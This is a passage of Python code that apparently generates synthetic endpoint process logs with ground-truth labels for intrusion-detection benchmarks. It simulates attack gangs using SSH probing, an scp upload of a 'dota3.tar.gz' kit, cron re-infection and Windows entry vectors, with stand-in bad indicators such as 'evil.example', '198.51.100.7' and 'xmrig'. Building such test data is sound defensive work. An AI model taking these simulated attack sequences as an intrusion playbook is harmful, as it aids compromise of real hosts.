                for x in range(r.randint(0, 3)): ssh_login(ctx, h, t - 0 + x * 2.5, user, 'probe')
                t = ssh_exec(ctx, h, t + 9, user, lines, 'ssh')
                p, q = ssh_login(ctx, h, t + 20, user, 'scp')
                sim_spawn(ctx, q, t + 21, h.resolve('scp'), 'scp -t /var/tmp/dota3.tar.gz', 'scp', 'scp', dur=2); setend(p, t + 23.2)
                ssh_exec(ctx, h, t + 30, user, [b['drop']], 'drop')
            elif g.get('sshpre') == 'sftp':
                p, q = ssh_login(ctx, h, t, user, 'sftp')
                sh = Sh(q, ctx, 'prog', 'sftp', {}, {}, '/root')
                launch(['bash', '-c', '/usr/lib/openssh/sftp-server'], sh, t + 1, None, {'dur': '4'}, 'sftp-server'); setend(p, t + 6)
                ssh_exec(ctx, h, t + 8, user, [b['ssh']], 'ssh')
            elif g.get('mir'): ssh_exec(ctx, h, t, user, [b['ssh']], 'ssh')
            else:
                ctx.facts['fast'] = r.random() < .8
                ssh_interactive(ctx, h, t, user, b['ssh'], 'ssh', 'shell')
    def lin_persist(s, rec, g, h, subs, r, facts):
        c = g.get('cron')
        if not c or h.role in ('pod', 'iot'): return
        cmd, period, lo, hi = c
        n = r.randint(lo, hi)
        if r.random() < .2: n = min(n, 1)
        # later re-infections, until cleaned
        t = rec['t'] + r.uniform(300, 1800)
        step = max(period, 600)
        t = math.ceil(t / 60) * 60
        for k in range(n):
            t += step if period >= 600 else 3600
            if t >= s.t_end: break
            tt = t + 1.0 + r.random() * .3
            if h.boot_i(tt) and tt < h.boots[h.boot_i(tt)] + 70: continue
            ctx = Ctx(h, r, tt, rec['gang'], rec['no'], subs, s.bodies_for(g), dict(facts, root=True, **{'w%d' % rec['wave']: True}))
            try: cron_run(ctx, h, tt, cmd, 'cron', 'cron')
            except (Stop, Exit): pass
    def win_entry(s, ctx, g, h, t, v):
        r = ctx.rng
        par = {'smb': 'services', 'sqlv': 'sql', 'rdp': 'explorer', 'psexec': 'services', 'iisv': 'w3wp', 'user': 'explorer', 'mshta': 'explorer', 'usb': 'explorer', 'javaw': 'tomcatw'}[v]
        if v == 'rdp' and h.svc('explorer', t) is None: par = 'term'
        if v == 'smb' and r.random() < .4: par = 'wmi'
        if v == 'smb' and rec_gang(g) == 'wanna-pick': par = 'services'
        if v == 'rdp': p = rdp_session(ctx, h, t, 'rdp', r.uniform(600, 5000)); t += 9 + 10 * r.random()
        else: p = h.svc(par, t) or h.svc('services', t)
        body = ctx.bodies[v] if v in ctx.bodies else W.SRVW['javaw']
        wrun(ctx, p, t, body, v)
        if g.get('svc2'):
            p = h.svc('services', t); t += 30 + r.random() * 60
            wrun(ctx, p, t, ctx.bodies[g['svc2']], g['svc2'])
    def _(s): pass
    def win_persist(s, rec, g, h, subs, r):
        c = g.get('cron')
        if not c or rec['gang'] == 'hello-srv': return
        body, period, lo, hi = c; n = r.randint(lo, hi); t = rec['t'] + r.uniform(200, 2000)
        for k in range(n):
            t += period * (1 if r.random() < .9 else 2)
            if t >= s.t_end: break
            if h.boot_i(t) and t < h.boots[h.boot_i(t)] + 70: continue
            ctx = Ctx(h, r, t, rec['gang'], rec['no'], subs, s.bodies_for(g), {})
            try: wrun(ctx, h.svc('sched', t), t + r.random(), ctx.bodies[body], 'task')
            except (Stop, Exit): pass
    # ---- benign
    def benign_ctx(s, h, rng, t):
        subs = {'ORG': s.org, 'ANS': '%d.%d-%d-%d' % (1772323200 + int(t), rng.randint(10**6, 10**7), rng.randint(1000, 60000), rng.randint(10**13, 10**15)), 'LABWALLET': s.lab, 'WUSER': getattr(h, 'user', 'x')}
        bi = rng.choice(s.bad) if s.bad else ('198.51.100.7', 'evil.example', 'xmrig')
        subs['BADIP'], subs['BADDOM'], subs['BADPROC'] = bi
        return Ctx(h, rng, t, None, None, subs, LB.B, {'root': rng.random() < .5})
    def run_job(s, h, job, t, rng):
        name, roles, period, weight, how, body, kw = job
        ctx = s.benign_ctx(h, rng, t)
        ctx.limit = kw.get('maxev', 1500)
        n0 = len(h.procs)
        try:
            if h.is_win and how == 'rdpsess':
                ex = rdp_session(ctx, h, t, name, 1500); wrun(ctx, ex, t + 8, body, name)
            elif h.is_win: wrun(ctx, h.svc(how, t) or h.svc('services', t), t, body, name)
            elif how == 'cron':
                for ln in body.split('\n'): cron_run(ctx, h, t, ln, name, 'c')
            elif how == 'systemd': prog_at(ctx, h.svc('init', t), t, body, name)
            elif how.startswith('svc:'): prog_at(ctx, h.svc(how[4:], t), t, body, name)
            elif how.startswith('worker:'):
                w = how[7:]
                if w == 'ptw': w = {'phpweb': 'php-fpm', 'node': 'node', 'tomcat': 'java'}[h.role]
                if w == 'phpw': w = 'php-fpm' if h.role == 'phpweb' else 'apache2'
                if w == 'appw': w = {'phpweb': 'php-fpm', 'node': 'node', 'py': 'gunicorn'}[h.role]
                p = h.svc(w, t) if w in ('node', 'java') else h.worker(w, t)
                prog_at(ctx, p, t, body, name, '/var/www/html')
            elif how in ('sshuser', 'sshroot'): ssh_interactive(ctx, h, t, 'root' if how == 'sshroot' else rng.choice(('dev', 'ops', 'deploy', 'alice')), body, name, 'shell')
            elif how == 'sshexec': ssh_exec(ctx, h, t, 'deploy', [body], name)
            elif how == 'sshscan': ssh_exec(ctx, h, t, 'svc-scan', [x for x in body.split('\n') if x.strip()], name, (0.02, 0.4))
            elif how == 'sshfail':
                k = rng.randint(1, 12)
                for i in range(k):
                    p, q = ssh_login(ctx, h, t, 'root', name); setend(p, t + rng.uniform(.6, 3)); t += rng.uniform(.3, 4)
            elif how == 'k8sexec': exec_in(ctx, h, t, resolve_r(body, rng), name)
            elif how == 'pod': container(ctx, h, t, resolve_r(body, rng), name, 'k8s.io' if h.role == 'k8s' else 'moby')
            elif how == 'nsexec':
                z = h.prep('', '', t, 0) if False else None
                sh = Sh(h.facts['nspar'], ctx, 'prog', name, {}, {}, '/app'); run_list(parse(resolve_r(body, rng)), sh, t, None)
        except (Stop, Exit): pass
        return len(h.procs) - n0
    def usable(s, h, j):
        name, roles, period, weight, how, body, kw = j
        if roles and h.role not in roles: return False
        if h.is_win: return True
        if h.role == 'pod': return bool(roles)
        if h.role == 'iot': return bool(roles)
        if how.startswith('svc:') and how[4:] not in h.svcmap and how[4:] != 'init': return False
        if how.startswith('ssh') and 'sshd' not in h.svcmap: return False
        if 'tool' in kw and not h.has(kw['tool']): return False
        if name in ('cron-hourly', 'cron-daily', 'apt-daily', 'unattended') and not h.deb: return False
        if name in ('sa1', 'dnf-makecache') and h.deb: return False
        if name == 'motd-news' and not h.distro.startswith('ubuntu'): return False
        return True
    def run_host(s, h, budget):
        rng = h.rng
        h.t_end = s.t_end
        h.setup(h.svcmap, s.t_end)
        if not h.is_win and h.role in ('docker', 'k8s', 'glrunner'):
            h.facts['shims'] = []
            for b, bt in enumerate(h.boots):
                l = [h.prep('/usr/bin/containerd-shim-runc-v2', 'shim', bt + (0 if b == 0 else 20 + i)) for i in range(rng.randint(2, 6))]
                if b:
                    for p in l: p.task.t0 = p.t
                h.facts['shims'].append(l)
        if h.role == 'pod':
            z = P(Task(0, None, 0), 'b', 0, '', '', None, None); h.facts['nspar'] = z; z.task.t1 = s.t_end
        for rec in s.inc.get(id(h), ()): s.run_incident(rec, h)
        nbot = len(h.procs)
        jobs = [j for j in (W.JOBS if h.is_win else LB.JOBS) if s.usable(h, j)]
        if not jobs: return
        k = min(len(jobs), rng.randint(9, 20))
        chosen = []; pool = list(jobs)
        special = [j for j in jobs if j[1]]
        for _ in range(k):
            if not pool: break
            j = rng.choices(pool, [x[3] * (1.6 if x[1] else 1.0) for x in pool])[0]; pool.remove(j); chosen.append(j)
        exp = sum(s.t_end / j[2] * s.cost.get(j[0], 6.0) for j in chosen) or 1
        f = exp / max(budget * .85, 50)
        nice = (240, 300, 420, 600, 900, 1200, 1800, 3600, 7200, 10800, 21600, 43200, 86400, 172800)
        for j in sorted(chosen, key=lambda j: -j[2]):
            per = max(j[2] * f if j[2] < 40000 else min(j[2] * max(f, .5), 2 * 86400), 240)
            per = min(nice, key=lambda x: abs(math.log(x / per)))
            off = rng.uniform(0, per); croned = j[4] == 'cron' or j[4] == 'systemd'
            t = off
            if croned: t = math.floor(off / 60) * 60
            jt = []
            while t < s.t_end:
                tt = t
                if croned: tt = t + 1.0 + rng.random() * .02
                elif j[4].startswith('svc:') or j[4].startswith('worker') or h.is_win: tt = t + rng.expovariate(1 / (per * .05))
                else: tt = t + rng.uniform(-.3, .3) * per
                if 1 < tt < s.t_end - 1: jt.append(tt)
                t += per
            for tt in jt:
                if h.boot_i(tt) and tt < h.boots[h.boot_i(tt)] + 40: continue
                n = s.run_job(h, j, tt, rng)
                c = s.cost.get(j[0]); s.cost[j[0]] = n if c is None else c * .9 + n * .1
            if len(h.procs) - nbot > budget * 1.3: break
        # people, until the budget is spent
        guard = 0
        while len(h.procs) - nbot < budget and guard < 400:
            guard += 1
            d = rng.randrange(s.days); t = d * DAY + rng.gauss(13.5, 3.2) * 3600
            if not 100 < t < s.t_end - 100: continue
            if h.boot_i(t) and t < h.boots[h.boot_i(t)] + 60: continue
            if h.is_win or h.role in ('iot', 'pod', 'k8s') or rng.random() < .35:
                j = rng.choices(jobs, [x[3] for x in jobs])[0]; s.run_job(h, j, rng.uniform(60, s.t_end - 60), rng)
            else:
                body = '\n'.join(LB.ADMIN[x] for x in rng.sample(sorted(LB.ADMIN), rng.choice((1, 1, 2, 3))))
                s.run_job(h, ('admin', None, 0, 1, 'sshuser' if h.role != 'desktop' or rng.random() < .5 else 'sshuser', body, {}), t, rng)
    # ---- write
    def main(s):
        a = s.a
        s.fleet(); s.plan()
        s.lab = rname(s.rng, 93, B58)
        s.bad = []
        for n, ws in s.infra.items():
            if (s.gangs[n]['os'] == 'win') == (a.os == 'windows') or a.os == 'mixed':
                for inf in ws: s.bad.append((inf['IP'], inf['DOM'], PROCNAME.get(n, 'kworkerds')))
        wt = {h: h.rng.lognormvariate(0, .6) * (2.0 if h.role in ('glrunner', 'jenkins', 'k8s', 'hpc', 'mail', 'desktop', 'dev', 'sql', 'exch') else .5 if h.role in ('iot', 'pod') else 1.0) for h in s.hosts}
        tw = sum(wt.values())
        base = os.path.splitext(a.out)[0]
        nb = max(8, min(400, a.events // 20000 + 8)); tmp = a.out + '.tmp'; shutil.rmtree(tmp, ignore_errors=True); os.makedirs(tmp)
        lf = [open('%s/l%d' % (tmp, i), 'w') for i in range(nb)]; tf = [open('%s/t%d' % (tmp, i), 'w') for i in range(nb)]
        bots = open(base + '.truth.bots.tsv', 'w')
        s.loss = Loss(a, random.Random('loss%d' % a.seed))
        left = a.events; pend = []; done = 0; totals = 0
        seen_inc = {}
        def flush(h):
            s.emit(h, lf, tf, bots, nb, seen_inc); h.procs = None; h.forks = None; h.pre = None; h.workers = None; h.svcs = None; h.facts = {}; h.cinits = {}
        remw = tw
        pilot = len(s.hosts) if a.events <= 600000 else max(10, len(s.hosts) // 5)
        for i, h in enumerate(s.hosts):
            share = left * wt[h] / remw
            nb0 = 0
            s.run_host(h, max(30, share - sum(30 for _ in s.inc.get(id(h), ()))))
            h.procs = [p for p in h.procs if p.t < s.t_end and p.t >= 0]
            h.assign()
            got = len(h.procs); left -= got; remw -= wt[h]; totals += got
            if s.loss.ready: flush(h)
            else:
                pend.append(h)
                if len(pend) >= pilot or i == len(s.hosts) - 1:
                    s.loss.calibrate(pend)
                    for x in pend: flush(x)
                    pend = []
            if i % 50 == 0: print('%d/%d hosts, %d events' % (i, len(s.hosts), totals), file=sys.stderr)
        bots.close()
        for f in lf + tf: f.close()
        with open(a.out, 'w') as o:
            for i in range(nb):
                rows = [x.split('\t', 1) for x in open('%s/l%d' % (tmp, i))]
                rows.sort(key=lambda x: float(x[0])); o.writelines(x[1] for x in rows)
        with open(base + '.truth.tsv', 'w') as o:
            for i in range(nb):
                rows = [x.split('\t', 2) for x in open('%s/t%d' % (tmp, i))]
                rows.sort(key=lambda x: (float(x[0]), int(x[1]))); o.writelines(x[2] for x in rows)
        with open(base + '.truth.incidents.tsv', 'w') as o:
            for rec in s.incs:
                if rec['no'] in seen_inc: o.write('%d\t%s\t%d\t%s\t%d\n' % (rec['no'], rec['gang'], rec['wave'], rec['host'].name, 1 if rec['one'] else 0))
        shutil.rmtree(tmp)
        with open(base + '.steps.tsv', 'w') as o:
            for g, sc in SCENES.items():
                for name, n in sc.items():
                    for k, m in STEPS[(g, name)].items(): o.write('%s\t%d.%d\t%s\t%s\n' % (g, n, m, name, json.dumps(k)[1:-1]))
        print('hosts %d days %d events %d incidents %d lost %d bot events %d' % (len(s.hosts), s.days, totals, len(seen_inc), s.loss.n, s.nbots), file=sys.stderr)
    nbots = 0
    def emit(s, h, lf, tf, bots, nb, seen):
        procs = h.procs
        for i, p in enumerate(procs): p.seq = i
        procs.sort(key=lambda p: (p.t, p.seq))
        for p in procs:
            s.nid += 1; p.id = (s.nid * 2654435761 + 40503) % 4294967291
            if p.end is None: p.end = min(p.task.t1 or h.deadline(p.t), h.deadline(p.t))
        s.loss.apply(h, procs)
        rng = h.rng; w = s.t_end / nb; skew = h.skew; delay = h.delay; late = 0.0
        base = os.path.basename
        for i, p in enumerate(procs):
            q = p.adopt or p.par
            ppid = q.task.pid if q is not None else 0
            img = q.path if q is not None else None
            if img and not h.pathparent: img = img.replace('\\', '/').rsplit('/', 1)[-1] if h.is_win else base(img)
            if img == '': img = None
            if p.adopt is not None: st, par = 'reparented', '-'
            elif p.par is None or p.par.kind == 'b': st, par = 'before_log', '-'
            elif p.par.kind == 'f': st, par = 'forked', '-'
            else: st, par = ('missing' if p.par.lost else 'observed'), str(p.par.id)
            x = p.true; n = 0
            while x is not None and x.kind != 'x': x = x.true
            anc = str(x.id) if x is not None else '-'
            b = min(nb - 1, int(p.t / w))
            tf[b].write('%.6f\t%d\t%d\t%s\t%s\t%s\t%d\t%s\t%s\n' % (p.t, i, p.id, p.gang or '-', p.inc or '-', par, 1 if p.lost else 0, st, anc))
            tl = ts(p.t + skew)
            if p.gang:
                s.nbots += 1; seen[p.inc] = 1
                bots.write('%d\t%d\t%s\t%s\t%s\t%s\n' % (p.id, p.inc, p.step, tl, esc(p.path), esc(p.cmd)))
            if not p.lost:
                if rng.random() < .0005: late = rng.choice((5, 30, 300))
                elif late and rng.random() < .05: late = 0
                arr = p.t + delay + late + (rng.random() * delay if rng.random() < .02 else 0)
                ba = min(nb - 1, int(arr / w))
                lf[ba].write('%.4f\t%s\n' % (arr, json.dumps({'id': p.id, 'time': tl, 'host': h.name, 'file_path': p.path, 'cmd_line': p.cmd, 'pid': p.task.pid, 'ppid': ppid, 'parent': img}, ensure_ascii=False)))
def esc(x): return json.dumps(x, ensure_ascii=False)[1:-1]
def rec_gang(g): return g['name']
def resolve_r(body, rng): return sim.SUBRE.sub(lambda m: randval(m.group(1)[2:], rng) if m.group(1).startswith('R:') else m.group(0), body)
from win import wrun as _wrun, tree
def wrun(ctx, par, t, body, scene): return _wrun(ctx, par, t, tree(body), scene)

class Loss:
    def __init__(s, a, rng): s.p = a.loss; s.m = a.loss_model; s.rng = rng; s.ready = s.p == 0 or s.m == 'uniform'; s.n = 0
    @staticmethod
    def bursts(procs):
        out = {}; w = -1; k = 0
        for p in procs:
            x = int(p.t / 2.0)
            if x != w: w = x; k = 0
            k += 1; out[p] = k
        return out
    def calibrate(s, hs):
        ps = []
        if s.m == 'lifetime':
            L = [max(1e-4, (p.end or p.t + 60) - p.t) for h in hs for p in h.procs]
            lo, hi = 1e-4, 1e5
            for _ in range(60):
                m = math.sqrt(lo * hi)
                if sum(.93 * math.exp(-(l / m) ** .6) for l in L) / len(L) < s.p: lo = m
                else: hi = m
            s.T = lo
        else:
            B = []
            for h in hs:
                h.procs.sort(key=lambda p: p.t); B += s.bursts(h.procs).values()
            q = max(0.0, s.p - .06); lo, hi = 0.0, 2000.0
            for _ in range(50):
                m = (lo + hi) / 2
                if sum(1.0 if b > m + 1 else max(0.0, b - m) if b > m else 0.0 for b in B) / len(B) > q: lo = m
                else: hi = m
            s.k = lo
        s.ready = True
    def apply(s, h, procs):
        if s.p == 0: return
        r = s.rng
        if s.m == 'uniform':
            for p in procs: p.lost = r.random() < s.p
        elif s.m == 'lifetime':
            for p in procs: p.lost = r.random() < .93 * math.exp(-(max(1e-4, p.end - p.t) / s.T) ** .6)
        else:
            b = s.bursts(procs); o = []
            if r.random() < .3: x = r.uniform(0, h.t_end); o.append((x, x + h.t_end * r.uniform(.05, .35)))
            for p in procs: p.lost = r.random() < b[p] - s.k or any(x <= p.t < y for x, y in o)
        s.n += sum(p.lost for p in procs)

if __name__ == '__main__':
    ap = argparse.ArgumentParser()
    ap.add_argument('--seed', type=int, default=1); ap.add_argument('--events', type=int, default=300000); ap.add_argument('--os', default='linux', choices=('linux', 'windows', 'mixed'))
    ap.add_argument('--loss', type=float, default=0.0); ap.add_argument('--loss-model', default='uniform', choices=('uniform', 'lifetime', 'burst')); ap.add_argument('--out', required=True)
    ap.add_argument('--widespread', action='store_true'); ap.add_argument('--hosts', type=int); ap.add_argument('--days', type=int)
    a = ap.parse_args()
    os.makedirs(os.path.dirname(os.path.abspath(a.out)), exist_ok=True)
    import gc; gc.freeze()
    Gen(a).main()
